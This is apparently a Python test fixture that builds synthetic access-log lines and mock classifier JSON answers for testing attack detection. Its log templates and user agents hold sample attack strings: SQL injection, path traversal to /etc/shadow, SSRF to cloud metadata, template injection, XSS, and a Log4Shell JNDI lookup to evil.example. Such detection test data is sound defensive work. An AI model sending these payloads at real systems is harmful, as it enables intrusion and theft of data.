"""Log lines for the registered queries, derived from the ``events`` table.

The test tables hold no access logs, so each event becomes one line: a template
chosen by its id, filled from its own columns. Both engines fill the same
templates.
"""

from __future__ import annotations

TEMPLATES = (
    '@IP@ - - [@TS@ +0330] "GET / HTTP/1.1" 200 @SZ@ "https://shop.example.com/m/@U@" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "GET /product/@U@?model=@E@ HTTP/1.1" 200 @SZ@ "-" "Mozilla/5.0 (X11; Linux x86_64)" "-"',
    '@IP@ - - [@TS@ +0000] "GET /thumbs/w320/@E@.webp HTTP/1.1" 200 @SZ@ "-" "-" "-"',
    '@IP@ - ops@U@ [@TS@ -0700] "GET /catalog/list?shelf=@U@%20or%2022=22 HTTP/1.1" 200 @SZ@ "-" "sqlmap/1.8#stable"',
    '@IP@ - - [@TS@ +0330] "GET /search?q=@U@%27%20UNION%20ALL%20SELECT%20NULL,table_name%20FROM%20information_schema.tables-- HTTP/1.1" 500 12 "-" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "GET /docs/%2e%2e/%2e%2e/%2e%2e/etc/shadow?page=@U@ HTTP/1.1" 403 @SZ@ "-" "Wget/1.21.4" "-"',
    '@IP@ - - [@TS@ +0330] "GET /%252e%252e/%252e%252e/boot.ini HTTP/1.1" 400 512 "-" "curl/7.68.0"',
    '@IP@ - - [@TS@ +0330] "GET /static/%25252e%25252e/app-@U@ HTTP/1.1" 404 0 "-" "curl/7.68.0" "-"',
    '@IP@ - - [@TS@ +0100] "POST /upload/avatar@U@.php?filename=a.php&size=@SZ@ HTTP/1.1" 201 @SZ@ "" "" "-"',
    '@IP@ - - [@TS@ +0330] "GET /old/phpmyadmin/ HTTP/1.1" 404 @SZ@ "-" "masscan/1.3 (scan @U@)" "-"',
    '@IP@ - - [@TS@ +0330] "GET /portal/Telerik.Web.UI.DialogHandler.axd?v=@E@ HTTP/1.1" 302 @SZ@ "-" "Opera/9.80" "-"',
    '@IP@ - - [@TS@ +0530] "GET /api/test?user=@U@ HTTP/1.1" 200 @SZ@ "-" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "GET /fetch?url=http://169.254.169.254/latest/meta-data&n=@SZ@ HTTP/1.1" 200 @SZ@ "-" "Go-http-client/1.1" "-"',
    '@IP@ - - [@TS@ +0330] "GET /fetch?url=gopher://10.0.0.@U@:70/_x&host=localhost HTTP/1.1" 502 - "-" "Go-http-client/1.1" "-"',
    '@IP@ - - [@TS@ +0330] "GET /page?name={{7*7}}&b=2&a=1&a=&empty&a-b=1 HTTP/1.1" 200 @SZ@ "-" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "POST /account/transfer HTTP/1.1" 302 0 "https://bank.example.org/" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "GET /comment?text=%3Cscript%3Ealert(@U@)%3C/script%3E HTTP/1.1" 200 @SZ@ "-" "Mozilla/5.0" "-"',
    '@IP@ - - [@TS@ +0330] "GET /CFIDE/administrator/index.cfm HTTP/1.1" 404 0 "-" "Mozilla/5.0 nikto" "-"',
    '@IP@ - - [@TS@ +0330] "GET /view?file=php://filter/convert.base64-encode/resource=index HTTP/1.1" 200 @SZ@ "-" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "GET /session/deadbeefcafe@U@/profile//x?B=2&a=%2531&a=+x&&=v&k HTTP/1.1" 200 @SZ@ "-" "@AGENT@" "-"',
    '@IP@ - - [@TS@ +0330] "GET /token?t=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo@U@&sig=0123456789abcdef0123&ip=10.1.2.@U@ HTTP/1.1" 200 @SZ@ "-" "Mozilla/5.0" "-"',
    '@IP@ - - [@TS@ +0330] "GET /user/@U@/orders/@E@/? HTTP/1.1" 200 @SZ@ "-" "Mozilla/5.0 (Macintosh)" "-"',
    '@IP@ - - [@TS@ -0300] "POST /c/portal/json_service HTTP/1.1" 200 @SZ@ "-" "Mozilla/5.0" "-"',
    '@IP@ - - [@TS@ +0330] "GET /spring-app?class.module.classLoader.resources=X HTTP/1.1" 200 @SZ@ "-" "Mozilla/5.0" "-"',
    '@IP@ - - [@TS@ +0330] "GET /caf%C3%A9/men%C3%BC?q=a+b%zz%20c HTTP/2.0" 200 @SZ@ "-" "Mozilla/5.0 (Android)" extra',
    'garbage line @E@ without any structure',
    '#Software: exported by host @U@',
    '@IP@ - - [@TS@ +0330] "GET /teapot HTTP/1.1" 999 10 "-" "Mozilla/5.0" "-"',
    '@IP@ - - [0@TS@ +0330] "GET /three-digit-day HTTP/1.1" 200 10 "-" "-"',
    '@IP@ - - [@TS@ +03] "GET /hours-only HTTP/1.1" 200 10 "-" "-"',
    '@IP@ - - [@TS@ z] "GET /small-zulu HTTP/1.1" 200 10 "-" "-"',
    '@IP@ - - [@TS@  +1900] "GET /far/@U@/east HTTP/1.1" 200 @SZ@ "-" "-"',
    '@IP@ - - [@TS@] "GET /no-offset HTTP/1.1" 200 10 "-" "Mozilla/5.0" "-"',
    '@IP@ - - [@TS@ +0330] "GET /size HTTP/1.1" 200 12x "-" "Mozilla/5.0" "-"',
    '  @IP@ - - [@TS@ +0000] "DELETE /cart/@U@/backup HTTP/1.0" 204 -   ',
    '@IP@ - - [@TS@ +0330] "get /lower HTTP/1.1" 200 1 "-" "Mozilla/5.0" "-"',
    '@IP@ - - [@TS@ +0330] "GET /products?id=1;%20DROP%20TABLE%20users--%20@E@ HTTP/1.1" 200 @SZ@   "-"   "@AGENT@"',
)

# user agents by user: the first is ordinary, the others carry a payload each
AGENTS = (
    "Mozilla/5.0 (X11; Fedora; rv:128.0) Gecko/20100101 Firefox/128.0",
    "${jndi:ldap://evil.example/a}",
    "<script>track()</script>",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
)

# answers of a verdict provider, by line: plain, fenced, broken, odd values
ANSWERS = (
    '{"label":1,"attack_type":"sqli","confidence":0.95,"severity":"high","explanation":"Union select in the query.","recommended_actions":["block_ip","escalate"],"cve_refs":["CVE-2021-44228","CVE-2017-5638"]}',
    '```json\n{"label":1,"attack_type":"XSS","confidence":"0.9","severity":"Crit","explanation":"Script tag in the query.","recommended_actions":["monitor"],"cve_refs":[]}\n```',
    'I cannot answer that.',
    '{"label":1,"attack_type":"Path Traversal","confidence":0.7,"severity":"warning","explanation":"Dots in the path.","recommended_actions":["ignore","custom_step"],"cve_refs":[],"risk_score":"6.5"}',
    '{"label":0,"attack_type":"benign","confidence":null,"severity":"informational","explanation":"Nothing.","recommended_actions":[],"cve_refs":[]}',
    '```\n{"label":1,"explanation":"No type and no severity.","recommended_actions":["escalate"],"cve_refs":["CVE-2022-22965"]}\n```',
    '{"label":1,"attack_type":"cve","confidence":"high","severity":"unheard of","explanation":"Lookup in the agent.","recommended_actions":["block_ip"],"cve_refs":["CVE-2021-44228"]}',
    '["not","an","object"]',
    '{"label":1,"attack_type":"csrf","confidence":1,"severity":"LOW","explanation":"Transfer without a token.","recommended_actions":["monitor"],"cve_refs":[]}',
)
